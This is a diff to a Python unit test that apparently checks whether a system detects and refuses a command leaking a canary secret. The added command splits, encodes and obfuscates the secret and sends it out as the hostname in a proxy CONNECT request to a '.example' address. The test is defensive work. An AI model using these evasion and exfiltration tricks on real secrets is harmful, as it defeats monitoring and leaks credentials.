@@ -88,7 +88,9 @@ class Hostile(unittest.TestCase):
         apart = "\\033".join(CANARY[i:i + 5] for i in range(0, len(CANARY), 5)) + "\\n" + "\\342\\200\\213".join(CANARY)
         # Not whole in the command itself: that is a setting, which people and exports see.
         tell = (f"a={CANARY[:half]}; b={CANARY[half:]}; printf $a; sleep 0.4; printf \"$b\\n\"; printf $a$b | base64; printf '{apart}\\n'; "
-                "printf \"$a\\342\"; sleep 0.4; printf \"\\200\\213$b\\n\"; echo $a$b > app.txt")
+                "printf \"$a\\342\"; sleep 0.4; printf \"\\200\\213$b\\n\"; echo $a$b > app.txt; touch $a$b; "
+                "exec python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', 8079)); "
+                "s.sendall(b'CONNECT $a$b.example:443 HTTP/1.1\\r\\n\\r\\n'); s.recv(99)\"")
         self.w.configure(command=["sh", "-c", tell])
         fix = self.w.ended(self.w.start(issue))
         self.assertEqual((fix["status"], fix["reason"]), ("failed", "patch_refused"), self.w.log(fix["id"]))
